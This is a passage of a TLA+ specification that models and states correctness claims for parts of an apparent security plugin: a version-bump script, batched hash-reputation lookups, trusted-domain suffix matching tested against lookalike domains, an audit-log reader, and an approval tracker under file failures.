\* The text of a URL up to the end of its host, and the text behind it
Authority(u) ==
    BeforeFirst(u, "://") \o "://"
        \o BeforeFirst(BeforeFirst(BeforeFirst(AfterFirst(u, "://"), "#"), "?"), "/")

AfterAuthority(u) == SubSeq(u, Len(Authority(u)) + 1, Len(u))

\* v is u in another letter case
CaseVariant(u, v) == ToLowerCase(u) = ToLowerCase(v)

\* v is u with letters of the scheme and the host in another case
SchemeHostCaseVariant(u, v) ==
    /\ ToLowerCase(Authority(u)) = ToLowerCase(Authority(v))
    /\ AfterAuthority(u) = AfterAuthority(v)

QueryOf(u) == ParseSearch(AfterFirst(BeforeFirst(u, "#"), "?"))

Occurrences(params, p) == Cardinality({i \in 1..Len(params) : params[i] = p})

\* v is u with its query parameters in another order
QueryOrderVariant(u, v) ==
    /\ BeforeFirst(BeforeFirst(u, "#"), "?") = BeforeFirst(BeforeFirst(v, "#"), "?")
    /\ AfterFirst(u, "#") = AfterFirst(v, "#")
    /\ Len(QueryOf(u)) = Len(QueryOf(v))
    /\ \A i \in 1..Len(QueryOf(u)) :
          Occurrences(QueryOf(u), QueryOf(u)[i]) = Occurrences(QueryOf(v), QueryOf(u)[i])

\* No two query parameters of u have the same name
DistinctNames(u) ==
    \A i, j \in 1..Len(QueryOf(u)) : QueryOf(u)[i].name = QueryOf(u)[j].name => i = j

\* v is u with a fragment added, removed or changed
FragmentVariant(u, v) == BeforeFirst(u, "#") = BeforeFirst(v, "#")

\* The pairs (u, v) the claim as stated covers, and those it covers once amended
StatedVariants ==
    { p \in RoundTripUrls \X RoundTripUrls :
        \/ p[1] = p[2]
        \/ CaseVariant(p[1], p[2])
        \/ QueryOrderVariant(p[1], p[2])
        \/ FragmentVariant(p[1], p[2]) }

NormalizedVariants ==
    { p \in RoundTripUrls \X RoundTripUrls :
        \/ p[1] = p[2]
        \/ /\ ParseUrl(p[1]).ok
           /\ \/ SchemeHostCaseVariant(p[1], p[2])
              \/ QueryOrderVariant(p[1], p[2]) /\ DistinctNames(p[1])
              \/ FragmentVariant(p[1], p[2]) }

Digits == "0123456789"

\* \d+ : one or more decimal digits and nothing else
RECURSIVE IsDigits(_)
IsDigits(str) ==
    /\ str # ""
    /\ IndexOf(Digits, Char(str, 1)) # 0
    /\ Len(str) = 1 \/ IsDigits(SubSeq(str, 2, Len(str)))

\* A pattern that finds X.Y.Z at the start of the text and ignores what follows
semverPrefixTest(version) ==
    LET x == BeforeFirst(version, ".")
        y == BeforeFirst(AfterFirst(version, "."), ".")
        z == AfterFirst(AfterFirst(version, "."), ".")
    IN  IsDigits(x) /\ IsDigits(y) /\ z # "" /\ IndexOf(Digits, Char(z, 1)) # 0

\* SEMVER_RE.test(version): /^\d+\.\d+\.\d+$/
semverTest(version) ==
    LET x == BeforeFirst(version, ".")
        y == BeforeFirst(AfterFirst(version, "."), ".")
        z == AfterFirst(AfterFirst(version, "."), ".")
    IN  IsDigits(x) /\ IsDigits(y) /\ IsDigits(z)

\* FILES: the seven manifests, in the order the loop takes them; the last one
\* is the marketplace manifest with its plugin entries
FILES ==
    << "packages/core/package.json", "packages/claude-code/package.json",
       "packages/extension/package.json", "packages/openclaw/package.json",
       "packages/openclaw/openclaw.plugin.json", ".claude-plugin/plugin.json",
       ".claude-plugin/marketplace.json" >>

PreviousVersion == "0.3.0"

\* A manifest on disk: readable or not, valid JSON or not, and what it says
Manifest(i) ==
    [status |-> "ok", version |-> PreviousVersion,
     plugins |-> IF i = Len(FILES) THEN <<PreviousVersion, PreviousVersion>> ELSE << >>]

\* file.update(json, version)
update(json, version) ==
    [json EXCEPT !.version = version,
                 !.plugins = [k \in 1..Len(json.plugins) |-> version]]

\* process.argv[2]: absent, or the text given
NoArgument == [given |-> FALSE, text |-> ""]

VersionArguments ==
    {NoArgument} \cup
    { [given |-> TRUE, text |-> v] :
        v \in {"", "0.4.0", "10.0.12", "0.4", "v0.4.0", "0.4.0-beta", "0.4.0.1", "0.4.x"} }

\* Bound: manifests missing or malformed when the script starts
MaxDamaged == 2

BumpIdle ==
    /\ manifests = [i \in 1..Len(FILES) |-> Manifest(i)]
    /\ bump = [pc |-> "idle", version |-> NoArgument, next |-> 1, exit |-> 0 - 1,
               reads |-> 0, writes |-> 0]

Damaged == {i \in 1..Len(FILES) : manifests[i].status # "ok"}

\* A manifest is deleted, or left with content that is not JSON, before a run
ManifestDamaged(i, status) ==
    /\ bump.pc = "idle"
    /\ manifests[i].status = "ok"
    /\ Cardinality(Damaged) < MaxDamaged
    /\ manifests' = [manifests EXCEPT ![i].status = status]
    /\ UNCHANGED bump

\* node scripts/bump.mjs <version>: the argument checks
BumpStart(version) ==
    /\ bump.pc = "idle"
    /\ bump' = IF ~version.given \/ version.text = "" \/ ~semverTest(version.text)
               THEN [bump EXCEPT !.pc = "exited", !.version = version, !.exit = 1]
               ELSE [bump EXCEPT !.pc = "loop", !.version = version, !.next = 1]
    /\ UNCHANGED manifests

\* One turn of the loop: read, parse, update, write. A file that cannot be read
\* ends the run with exit(1); JSON.parse throws on malformed content and the
\* uncaught exception ends the run with status 1
BumpFile ==
    /\ bump.pc = "loop"
    /\ bump.next <= Len(FILES)
    /\ LET file == manifests[bump.next]
       IN  CASE file.status = "missing" ->
                  /\ bump' = [bump EXCEPT !.pc = "exited", !.exit = 1]
                  /\ UNCHANGED manifests
             [] file.status = "malformed" ->
                  /\ bump' = [bump EXCEPT !.pc = "exited", !.exit = 1, !.reads = @ + 1]
                  /\ UNCHANGED manifests
             [] OTHER ->
                  /\ manifests' = [manifests EXCEPT
                                     ![bump.next] = update(file, bump.version.text)]
                  /\ bump' = [bump EXCEPT !.next = @ + 1, !.reads = @ + 1,
                                          !.writes = @ + 1]

\* The loop is through: "All files updated", exit status 0
BumpEnd ==
    /\ bump.pc = "loop"
    /\ bump.next > Len(FILES)
    /\ bump' = [bump EXCEPT !.pc = "exited", !.exit = 0]
    /\ UNCHANGED manifests

\* The sample arguments that are of the strict form X.Y.Z
StrictVersions == {"0.4.0", "10.0.12"}

\* C17: when the version argument is absent or not of the strict form X.Y.Z,
\* the script exits with a non-zero status and has read and written no
\* manifest; when a manifest cannot be read, it exits with a non-zero status.
C17_RejectsBadInput ==
    bump.pc = "exited" =>
        /\ (~bump.version.given \/ bump.version.text \notin StrictVersions) =>
              bump.exit # 0 /\ bump.reads = 0 /\ bump.writes = 0
              /\ manifests = [i \in 1..Len(FILES) |->
                                [Manifest(i) EXCEPT !.status = manifests[i].status]]
        /\ (\E i \in 1..Len(FILES) : manifests[i].status = "missing") => bump.exit # 0

\* A version with a suffix behind X.Y.Z is turned down before any manifest is read
C17_Witness ==
    /\ bump.pc = "exited"
    /\ bump.version.text = "0.4.0-beta"
    /\ bump.exit = 1
    /\ bump.reads = 0

Bumped(i) ==
    /\ manifests[i].version = bump.version.text
    /\ \A k \in 1..Len(manifests[i].plugins) : manifests[i].plugins[k] = bump.version.text

\* C18: a run never leaves a partial bump: when it has ended, either all seven
\* manifests and every plugin entry of the marketplace manifest carry the new
\* version, or no manifest was rewritten.
C18_NoPartialBump ==
    bump.pc = "exited" =>
        \/ \A i \in 1..Len(FILES) : Bumped(i)
        \/ bump.writes = 0 /\ \A i \in 1..Len(FILES) : manifests[i].version = PreviousVersion

(***************************************************************************)
(* File reputation client: checkHashes sends the hashes in batches         *)
(***************************************************************************)

MAX_HASHES_PER_REQUEST == 50

Min(a, b) == IF a <= b THEN a ELSE b

\* Array.prototype.slice(from, to), with zero-based bounds
Slice(array, from, to) == SubSeq(array, from + 1, Min(to, Len(array)))

\* The loop of checkHashes: for (i = 0; i < hashes.length; i += 50) push(slice(i, i + 50))
RECURSIVE batchesFrom(_, _)
batchesFrom(hashes, i) ==
    IF i >= Len(hashes) THEN << >>
    ELSE <<Slice(hashes, i, i + MAX_HASHES_PER_REQUEST)>>
         \o batchesFrom(hashes, i + MAX_HASHES_PER_REQUEST)

\* What the service can answer to one batch request
BatchBodies == {"invalid-json", "no-responses", "no-key", "first", "all"}

BatchResponses ==
    {[kind |-> "error", status |-> 0, body |-> "none"],
     [kind |-> "timeout", status |-> 0, body |-> "none"],
     [kind |-> "http", status |-> 500, body |-> "none"]} \cup
    { [kind |-> "http", status |-> 200, body |-> b] : b \in BatchBodies }

\* The responses array of a body: an entry for every hash asked, for the first
\* one only, entries without a key, or none
BatchEntries(hashes, body) ==
    CASE body = "all" -> [k \in 1..Len(hashes) |-> [sha256 |-> hashes[k], hasKey |-> TRUE]]
      [] body = "first" -> <<[sha256 |-> hashes[1], hasKey |-> TRUE]>>
      [] body = "no-key" -> <<[sha256 |-> 0, hasKey |-> FALSE]>>
      [] OTHER -> << >>

\* parseBatchResponse: one result per entry that names its hash
parseBatchResponse(hashes, body) ==
    LET entries == SelectSeq(BatchEntries(hashes, body), LAMBDA e : e.hasKey)
    IN  [k \in 1..Len(entries) |->
           [sha256 |-> entries[k].sha256, severity |-> "SEVERITY_MALWARE"]]

\* checkHashBatch without its try/catch: a failed fetch or json() is thrown on
checkHashBatchUncaught(hashes, response) ==
    IF response.kind # "http" THEN [raised |-> TRUE, results |-> << >>]
    ELSE IF ~ResponseOk(response) THEN [raised |-> FALSE, results |-> << >>]
    ELSE IF response.body = "invalid-json" THEN [raised |-> TRUE, results |-> << >>]
    ELSE [raised |-> FALSE, results |-> parseBatchResponse(hashes, response.body)]

\* checkHashBatch: every failure is caught and gives the empty list
checkHashBatch(hashes, response) ==
    IF response.kind # "http" THEN [raised |-> FALSE, results |-> << >>]
    ELSE IF ~ResponseOk(response) THEN [raised |-> FALSE, results |-> << >>]
    ELSE IF response.body = "invalid-json" THEN [raised |-> FALSE, results |-> << >>]
    ELSE [raised |-> FALSE, results |-> parseBatchResponse(hashes, response.body)]

\* Array.prototype.flat on the list of batch results
RECURSIVE flat(_)
flat(lists) == IF lists = << >> THEN << >> ELSE Head(lists) \o flat(Tail(lists))

\* Bound: hashes given to one checkHashes call
MaxHashes == 101

NoBatchAnswer == [kind |-> "pending", status |-> 0, body |-> "none"]

BatchIdle ==
    batch = [pc |-> "idle", hashes |-> << >>, batches |-> << >>, requests |-> 0,
             responses |-> << >>, settled |-> << >>, result |-> << >>,
             raised |-> FALSE, single |-> Null]

\* checkHashes(hashes): nothing to do for the empty list, else one request per batch
CheckHashes(n) ==
    /\ batch.pc \in {"idle", "done"}
    /\ LET hashes == [k \in 1..n |-> k]
           batches == batchesFrom(hashes, 0)
       IN  batch' = [batch EXCEPT
                       !.pc = IF n = 0 THEN "done" ELSE "waiting",
                       !.hashes = hashes, !.batches = batches,
                       !.requests = Len(batches),
                       !.responses = [k \in 1..Len(batches) |-> NoBatchAnswer],
                       !.settled = [k \in 1..Len(batches) |->
                                      [raised |-> FALSE, results |-> << >>]],
                       !.result = << >>, !.raised = FALSE]

\* The request of batch k is answered, or fails
BatchResponds(k, response) ==
    /\ batch.pc = "waiting"
    /\ k \in 1..Len(batch.batches)
    /\ batch.responses[k] = NoBatchAnswer
    /\ batch' = [batch EXCEPT !.responses[k] = response,
                              !.settled[k] = checkHashBatch(batch.batches[k], response)]

\* Promise.all settles: it rejects when a batch raised, else the results are flattened
CheckHashesReturns ==
    /\ batch.pc = "waiting"
    /\ \A k \in 1..Len(batch.batches) : batch.responses[k] # NoBatchAnswer
    /\ batch' = [batch EXCEPT
                   !.pc = "done",
                   !.raised = \E k \in 1..Len(batch.batches) : batch.settled[k].raised,
                   !.result = flat([k \in 1..Len(batch.batches) |->
                                      batch.settled[k].results])]

\* checkHash(hash), answered by the service
CheckHash(response) ==
    /\ batch.pc \in {"idle", "done"}
    /\ batch' = [batch EXCEPT !.single = checkHash(response)]

\* The batch failed: transport error, timeout or a status that is not a success
BatchFailed(response) ==
    response.kind \in {"error", "timeout"} \/ response.status \notin 200..299

\* The results of batch k in the result of the call, in their order
ResultsOf(k) ==
    SelectSeq(batch.result,
              LAMBDA r : \E j \in 1..Len(batch.batches[k]) : batch.batches[k][j] = r.sha256)

\* C19: checkHashes splits its input into consecutive batches of at most 50
\* hashes, every hash in exactly one batch, and issues ceil(n/50) requests; its
\* result is the concatenation of the batch results, a failed batch adding
\* nothing and taking nothing away from the others; checkHashes and checkHash
\* never raise.
C19_BatchesFailOpen ==
    /\ flat(batch.batches) = batch.hashes
    /\ \A k \in 1..Len(batch.batches) :
          Len(batch.batches[k]) >= 1 /\ Len(batch.batches[k]) <= 50
    /\ Len(batch.batches) = (Len(batch.hashes) + 49) \div 50
    /\ batch.requests = Len(batch.batches)
    /\ ~batch.raised
    /\ batch.single.kind \in {"null", "result"}
    /\ batch.pc = "done" =>
          /\ \A k \in 1..Len(batch.batches) :
                ResultsOf(k) = IF BatchFailed(batch.responses[k]) THEN << >>
                               ELSE batch.settled[k].results
          /\ batch.result = flat([k \in 1..Len(batch.batches) |-> ResultsOf(k)])

\* Of three batches the second fails and the results of the other two are returned
C19_Witness ==
    /\ batch.pc = "done"
    /\ Len(batch.batches) = 3
    /\ batch.responses[2].kind = "error"
    /\ batch.responses[1].body = "all" /\ batch.responses[3].body = "first"
    /\ Len(batch.result) = 51

(***************************************************************************)
(* Trusted installer domains: loadTrustedDomains and isTrustedDomain       *)
(***************************************************************************)

\* String.prototype.endsWith
endsWith(str, suffix) ==
    /\ Len(suffix) <= Len(str)
    /\ SubSeq(str, Len(str) - Len(suffix) + 1, Len(str)) = suffix

\* The entries an allowlist file can hold: a scalar, a record whose domain is
\* missing or not a string, a record without a reason, and complete records
TrustedEntries ==
    {[shape |-> "scalar", domain |-> "", reason |-> ""],
     [shape |-> "object", domain |-> "", reason |-> "no domain"],
     [shape |-> "domain-not-string", domain |-> "", reason |-> "a number"],
     [shape |-> "object", domain |-> "Bun.sh", reason |-> ""],
     [shape |-> "object", domain |-> "Bun.sh", reason |-> "Bun"],
     [shape |-> "object", domain |-> "github.com", reason |-> "GitHub"],
     [shape |-> "object", domain |-> "SH", reason |-> "a suffix"]}

\* The domains isTrustedDomain is asked about
ProbeDomains ==
    {"bun.sh", "cdn.bun.sh", "notbun.sh", "BUN.SH", "CDN.Bun.SH", "evil.com",
     "api.github.com", "mygithub.com", "sh", ".sh", "bun.sh.evil.com", "bun.sh."}

DomainTexts == ProbeDomains \cup { e.domain : e \in TrustedEntries }

\* toLowerCase of every domain text, computed once
LowerCased == [text \in DomainTexts |-> ToLowerCase(text)]

\* The body of the entry loop of loadTrustedDomains: what the entry pushes
loadTrustedEntry(entry) ==
    IF entry.shape # "object" THEN << >>
    ELSE IF entry.domain = "" THEN << >>
    ELSE IF entry.reason = "" THEN << >>
    ELSE << [domain |-> LowerCased[entry.domain], reason |-> entry.reason] >>

\* isTrustedDomain with the dot of the suffix left out
RECURSIVE isTrustedDomainSuffix(_, _)
isTrustedDomainSuffix(domain, trusted) ==
    IF trusted = << >> THEN FALSE
    ELSE IF LowerCased[domain] = Head(trusted).domain THEN TRUE
    ELSE IF endsWith(LowerCased[domain], Head(trusted).domain) THEN TRUE
    ELSE isTrustedDomainSuffix(domain, Tail(trusted))

\* isTrustedDomain: the first entry that equals the lower-cased domain, or that
\* the domain ends with after a dot, answers true
RECURSIVE isTrustedDomain(_, _)
isTrustedDomain(domain, trusted) ==
    IF trusted = << >> THEN FALSE
    ELSE IF LowerCased[domain] = Head(trusted).domain THEN TRUE
    ELSE IF endsWith(LowerCased[domain], "." \o Head(trusted).domain) THEN TRUE
    ELSE isTrustedDomain(domain, Tail(trusted))

\* Bounds: files in the allowlists directory, entries in one load
MaxTrustedFiles == 2
MaxTrustedEntries == 2

NoTrustProbe == [asked |-> FALSE, domain |-> "", result |-> FALSE]

TrustIdle ==
    /\ trustLoad = [pc |-> "idle", files |-> 0, entries |-> 0, inList |-> FALSE,
                    domains |-> << >>]
    /\ trustProbe = NoTrustProbe

\* loadTrustedDomains is called: readdir fails and the empty list is returned,
\* or the .yaml files are listed and sorted
LoadTrustedDomainsStart(readable) ==
    /\ trustLoad.pc \in {"idle", "returned"}
    /\ trustLoad' = [pc |-> IF readable THEN "loading" ELSE "returned",
                     files |-> 0, entries |-> 0, inList |-> FALSE, domains |-> << >>]
    /\ trustProbe' = NoTrustProbe

\* The next file is read and parsed; only a list has entries to go through
LoadTrustedDomainsFile(kind) ==
    /\ trustLoad.pc = "loading"
    /\ trustLoad.files < MaxTrustedFiles
    /\ trustLoad' = [trustLoad EXCEPT !.files = @ + 1, !.inList = (kind = "list")]
    /\ UNCHANGED trustProbe

\* The next entry of the current file goes through the loop body
LoadTrustedDomainsEntry(entry) ==
    /\ trustLoad.pc = "loading"
    /\ trustLoad.inList
    /\ trustLoad.entries < MaxTrustedEntries
    /\ trustLoad' = [trustLoad EXCEPT !.entries = @ + 1,
                                      !.domains = @ \o loadTrustedEntry(entry)]
    /\ UNCHANGED trustProbe

\* No file is left: the list is returned
LoadTrustedDomainsReturn ==
    /\ trustLoad.pc = "loading"
    /\ trustLoad' = [trustLoad EXCEPT !.pc = "returned"]
    /\ UNCHANGED trustProbe

\* isTrustedDomain(domain, trusted) on the loaded list
IsTrustedDomain(domain) ==
    /\ trustLoad.pc = "returned"
    /\ trustProbe' = [asked |-> TRUE, domain |-> domain,
                      result |-> isTrustedDomain(domain, trustLoad.domains)]
    /\ UNCHANGED trustLoad

\* The trusted entries of the loaded list
TrustedNames == { trustLoad.domains[i].domain : i \in 1..Len(trustLoad.domains) }

\* d is t with a label in front: a dot, then t, at the end of d
DotBoundary(d, t) ==
    \E k \in 2..(Len(d) + 1) : Char(d, k - 1) = "." /\ SubSeq(d, k, Len(d)) = t

\* d ends with the characters of t, with no dot before them
MerelyEndsWith(d, t) ==
    \E k \in 2..(Len(d) + 1) : Char(d, k - 1) # "." /\ SubSeq(d, k, Len(d)) = t

\* C20: on a list produced by loadTrustedDomains, isTrustedDomain answers true
\* if and only if the lower-cased domain equals a trusted entry or ends with a
\* dot followed by one; a domain that only ends with the characters of an
\* entry, with no dot before them, is not trusted by that entry.
C20_TrustedIffDotBoundary ==
    trustProbe.asked =>
        LET d == LowerCased[trustProbe.domain]
        IN  /\ trustProbe.result <=> \E t \in TrustedNames : d = t \/ DotBoundary(d, t)
            /\ (/\ \E t \in TrustedNames : MerelyEndsWith(d, t)
                /\ \A t \in TrustedNames : MerelyEndsWith(d, t) \/ ~endsWith(d, t))
                  => ~trustProbe.result

\* "notbun.sh" is asked about while "bun.sh", loaded from "Bun.sh", is trusted
C20_Witness ==
    /\ trustProbe.asked
    /\ trustProbe.domain = "notbun.sh"
    /\ "bun.sh" \in TrustedNames
    /\ ~trustProbe.result

(***************************************************************************)
(* Audit log: getRecentEntries reads the last lines of the file            *)
(***************************************************************************)

\* getRecentEntries(config, limit = 100)
DEFAULT_LIMIT == 100

\* A line of the file: a JSON document (numbered by its place when written),
\* text that is no JSON (a torn or foreign write), or white space only
JsonLine(id) == [kind |-> "json", id |-> id]

GarbageLine == [kind |-> "garbage", id |-> 0]

BlankLine == [kind |-> "blank", id |-> 0]

RECURSIVE DropLeadingBlank(_)
DropLeadingBlank(lines) ==
    IF lines # << >> /\ Head(lines) = BlankLine THEN DropLeadingBlank(Tail(lines))
    ELSE lines

RECURSIVE DropTrailingBlank(_)
DropTrailingBlank(lines) ==
    IF lines # << >> /\ lines[Len(lines)] = BlankLine
    THEN DropTrailingBlank(SubSeq(lines, 1, Len(lines) - 1))
    ELSE lines

\* content.trim().split("\n"): white space at both ends goes, and what is left,
\* even the empty text, splits into at least one line
TrimSplit(lines) ==
    LET trimmed == DropTrailingBlank(DropLeadingBlank(lines))
    IN  IF trimmed = << >> THEN <<BlankLine>> ELSE trimmed

\* lines.slice(-limit): the last limit lines; -0 is 0, so a limit of 0 takes
\* the whole array
SliceLast(lines, limit) ==
    IF limit = 0 THEN lines
    ELSE SubSeq(lines, Len(lines) - Min(limit, Len(lines)) + 1, Len(lines))

\* JSON.parse(line) inside try/catch: the lines that parse, in order
ParsedEntries(lines) == SelectSeq(lines, LAMBDA line : line.kind = "json")

\* getRecentEntries: a file that cannot be read gives the empty list
getRecentEntries(file, limit) ==
    IF ~file.exists THEN << >>
    ELSE ParsedEntries(SliceLast(TrimSplit(file.lines), limit))

\* Bounds: lines in the log file, and the limits asked for besides the default
MaxLogLines == 4
MaxLimit == 2

Limits == 0..MaxLimit \cup {DEFAULT_LIMIT}

NoRecentCall == [called |-> FALSE, limit |-> 0, entries |-> << >>]

RecentIdle ==
    /\ recentFile = [exists |-> FALSE, lines |-> << >>]
    /\ recentLast = NoRecentCall

\* A line reaches the file, which is created when missing: an entry of
\* logVerdict or logPluginScan, or a write that left no JSON
RecentAppend(kind) ==
    /\ Len(recentFile.lines) < MaxLogLines
    /\ LET line == CASE kind = "json" -> JsonLine(Len(recentFile.lines) + 1)
                     [] kind = "garbage" -> GarbageLine
                     [] OTHER -> BlankLine
       IN  recentFile' = [exists |-> TRUE, lines |-> Append(recentFile.lines, line)]
    /\ recentLast' = NoRecentCall

\* The file is created empty
RecentCreate ==
    /\ ~recentFile.exists
    /\ recentFile' = [exists |-> TRUE, lines |-> << >>]
    /\ recentLast' = NoRecentCall

\* getRecentEntries(config, limit)
GetRecentEntries(limit) ==
    /\ recentLast' = [called |-> TRUE, limit |-> limit,
                      entries |-> getRecentEntries(recentFile, limit)]
    /\ UNCHANGED recentFile

\* The lines of the file that parse, in file order
ParseableLines ==
    SelectSeq(recentFile.lines, LAMBDA line : line.kind = "json")

\* The last n elements of a list, all of it when it is shorter
LastN(list, n) ==
    IF n >= Len(list) THEN list ELSE SubSeq(list, Len(list) - n + 1, Len(list))

\* C23: getRecentEntries(config, N) returns the last N parseable lines of the
\* log in file order: exactly N entries whenever the log holds at least N
\* parseable lines, unparseable lines among the most recent ones
\* notwithstanding; a missing file gives the empty list.
C23_LastParseable ==
    recentLast.called =>
        /\ ~recentFile.exists => recentLast.entries = << >>
        /\ recentFile.exists => recentLast.entries = LastN(ParseableLines, recentLast.limit)
        /\ Len(ParseableLines) >= recentLast.limit =>
              Len(recentLast.entries) = recentLast.limit

(***************************************************************************)
(* Approval tracker: file reads and writes that fail                       *)
(***************************************************************************)

\* loadJson(path) ?? {}: a read or a parse that fails gives null, and the
\* caller goes on with the empty store
loadJson(file, readFails) == IF readFails THEN EmptyStore ELSE file

\* How a write ends: done, refused before the file is touched (mkdir or open
\* fails), or broken off after writeFile has truncated the file
WriteOutcomes == {"written", "refused", "torn"}

\* saveJson(path, data): mkdir and writeFile; a failure throws, the file
\* keeping its content or left without any (which loadJson reads as null)
saveJson(file, data, outcome) ==
    CASE outcome = "written" -> data
      [] outcome = "refused" -> file
      [] OTHER -> EmptyStore

\* The reads and writes of one call that can fail
Faults4 ==
    [readPending : BOOLEAN, writePending : WriteOutcomes,
     readConsumed : BOOLEAN, writeConsumed : WriteOutcomes]

\* What a call leaves behind: the two files, what it returned, whether it
\* raised, whether a read it made failed and which write it made failed
Outcome(pending, consumed, result, readFailed, writeFailed) ==
    [pending |-> pending, consumed |-> consumed, result |-> result, raised |-> FALSE,
     readFailed |-> readFailed, writeFailed |-> writeFailed]

\* addPendingApproval: load, prune, set the entry, save; the catch swallows
\* the failed save
addPendingApprovalCall(pending, consumed, id, approval, t, f) ==
    LET store == Put(pruneStalePending(loadJson(pending, f.readPending), t), id,
                     [threatId |-> approval.threatId,
                      threatTitle |-> approval.threatTitle,
                      artifact |-> approval.artifact,
                      artifactType |-> approval.artifactType,
                      createdAt |-> t])
    IN  Outcome(saveJson(pending, store, f.writePending), consumed, NoEntry,
                f.readPending, IF f.writePending # "written" THEN "pending" ELSE "none")

\* consumePendingApproval with the two saves exchanged: the consumed file is
\* written before the pending file
consumePendingApprovalConsumedFirst(pending, consumed, id, t, f) ==
    LET store == pruneStalePending(loadJson(pending, f.readPending), t)
        entry == Get(store, id)
        key == consumedKey(Field(entry, "artifactType"), Field(entry, "artifact"))
        loaded == loadJson(consumed, f.readConsumed)
        written == Put(loaded, key, ConsumedEntry(entry, t))
    IN  IF entry = NoEntry
        THEN Outcome(pending, consumed, NoEntry, f.readPending, "none")
        ELSE IF f.writeConsumed # "written"
        THEN Outcome(pending, saveJson(consumed, written, f.writeConsumed), NoEntry,
                     f.readPending \/ f.readConsumed, "consumed")
        ELSE Outcome(saveJson(pending, Remove(store, id), f.writePending), written,
                     IF f.writePending # "written" THEN NoEntry ELSE entry,
                     f.readPending \/ f.readConsumed,
                     IF f.writePending # "written" THEN "pending" ELSE "none")

\* consumePendingApproval: the pending file is saved without the entry, then
\* the consumed file is loaded and saved with it; a failed save returns null
\* from the catch
consumePendingApprovalCall(pending, consumed, id, t, f) ==
    LET store == pruneStalePending(loadJson(pending, f.readPending), t)
        entry == Get(store, id)
        key == consumedKey(Field(entry, "artifactType"), Field(entry, "artifact"))
        loaded == loadJson(consumed, f.readConsumed)
    IN  IF entry = NoEntry
        THEN Outcome(pending, consumed, NoEntry, f.readPending, "none")
        ELSE IF f.writePending # "written"
        THEN Outcome(saveJson(pending, Remove(store, id), f.writePending), consumed, NoEntry,
                     f.readPending, "pending")
        ELSE Outcome(Remove(store, id),
                     saveJson(consumed, Put(loaded, key, ConsumedEntry(entry, t)),
                              f.writeConsumed),
                     IF f.writeConsumed # "written" THEN NoEntry ELSE entry,
                     f.readPending \/ f.readConsumed,
                     IF f.writeConsumed # "written" THEN "consumed" ELSE "none")

\* findConsumedApproval: load and look up
findConsumedApprovalCall(pending, consumed, artifactType, artifact, t, f) ==
    Outcome(pending, consumed,
            findConsumedApproval(loadJson(consumed, f.readConsumed), artifactType, artifact, t),
            f.readConsumed, "none")

\* removeConsumedApproval: load, delete the key, save
removeConsumedApprovalCall(pending, consumed, artifactType, artifact, f) ==
    Outcome(pending,
            saveJson(consumed,
                     removeConsumedApproval(loadJson(consumed, f.readConsumed),
                                            artifactType, artifact),
                     f.writeConsumed),
            NoEntry, f.readConsumed,
            IF f.writeConsumed # "written" THEN "consumed" ELSE "none")

\* The failures a call can meet: only the files it touches
PendingFaults == { f \in Faults4 : ~f.readConsumed /\ f.writeConsumed = "written" }

ConsumedFaults == { f \in Faults4 : ~f.readPending /\ f.writePending = "written" }

ReadFaults == { f \in ConsumedFaults : f.writeConsumed = "written" }

\* Bound: the clock of the calls with failures, in ticks
MaxFaultTime == 2

NoFaultCall ==
    [op |-> "none", pendingBefore |-> EmptyStore, consumedBefore |-> EmptyStore,
     result |-> NoEntry, raised |-> FALSE, readFailed |-> FALSE, writeFailed |-> "none"]

FaultIdle == faultLast = NoFaultCall

\* A call of the tracker completes: the files are as it left them
Completes(op, out) ==
    /\ pendingFile' = out.pending
    /\ consumedFile' = out.consumed
    /\ faultLast' = [op |-> op, pendingBefore |-> pendingFile,
                     consumedBefore |-> consumedFile, result |-> out.result,
                     raised |-> out.raised, readFailed |-> out.readFailed,
                     writeFailed |-> out.writeFailed]
    /\ UNCHANGED <<now, last>>

AddPendingApprovalCall(id, approval, f) ==
    Completes("addPendingApproval",
              addPendingApprovalCall(pendingFile, consumedFile, id, approval, now, f))

ConsumePendingApprovalCall(id, f) ==
    Completes("consumePendingApproval",
              consumePendingApprovalCall(pendingFile, consumedFile, id, now, f))

FindConsumedApprovalCall(artifactType, artifact, f) ==
    Completes("findConsumedApproval",
              findConsumedApprovalCall(pendingFile, consumedFile, artifactType, artifact, now, f))

RemoveConsumedApprovalCall(artifactType, artifact, f) ==
    Completes("removeConsumedApproval",
              removeConsumedApprovalCall(pendingFile, consumedFile, artifactType, artifact, f))

\* Date.now() advances between calls
FaultTick ==
    /\ now < MaxFaultTime
    /\ now' = now + 1
    /\ UNCHANGED <<pendingFile, consumedFile, last, faultLast>>

\* A read or a write failed inside the last call
CallFailed == faultLast.readFailed \/ faultLast.writeFailed # "none"

\* C25 as stated: no operation raises; when a read or a write fails inside a
\* call, consume and find return null, and both stores hold exactly the
\* entries they held before the call.
C25_FailedCallNoOp ==
    /\ ~faultLast.raised
    /\ (faultLast.op # "none" /\ CallFailed) =>
          /\ faultLast.op \in {"consumePendingApproval", "findConsumedApproval"} =>
                faultLast.result = NoEntry
          /\ pendingFile = faultLast.pendingBefore
          /\ consumedFile = faultLast.consumedBefore

\* C25 as amended: no operation raises; a failed read counts as an empty
\* store; when a write fails consume returns null, and when the write of the
\* pending file fails the consumed file holds exactly the entries it held
\* before the call; find changes neither store and returns null when its read
\* fails; add never changes the consumed store, remove never the pending one.
C25_FailedWriteStops ==
    /\ ~faultLast.raised
    /\ (faultLast.writeFailed # "none" /\ faultLast.op = "consumePendingApproval") =>
          faultLast.result = NoEntry
    /\ faultLast.writeFailed = "pending" => consumedFile = faultLast.consumedBefore
    /\ faultLast.op = "findConsumedApproval" =>
          /\ pendingFile = faultLast.pendingBefore
          /\ consumedFile = faultLast.consumedBefore
          /\ faultLast.readFailed => faultLast.result = NoEntry
    /\ faultLast.op = "addPendingApproval" => consumedFile = faultLast.consumedBefore
    /\ faultLast.op = "removeConsumedApproval" => pendingFile = faultLast.pendingBefore

\* C25 witness: in consumePendingApproval the write of the pending file
\* fails; the call returns null and the consumed file, which held an entry,
\* is as before
C25_Witness ==
    /\ faultLast.op = "consumePendingApproval"
    /\ faultLast.writeFailed = "pending"
    /\ faultLast.pendingBefore # EmptyStore
    /\ faultLast.result = NoEntry
    /\ faultLast.consumedBefore # EmptyStore
    /\ consumedFile = faultLast.consumedBefore

(***************************************************************************)
(* Specifications                                                          *)
(***************************************************************************)

FirstIdle == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle

LaterIdle == ClawIdle /\ CacheIdle /\ AuditIdle /\ ThreatIdle /\ RoundTripIdle /\ BumpIdle /\ BatchIdle /\ TrustIdle
    /\ RecentIdle /\ FaultIdle

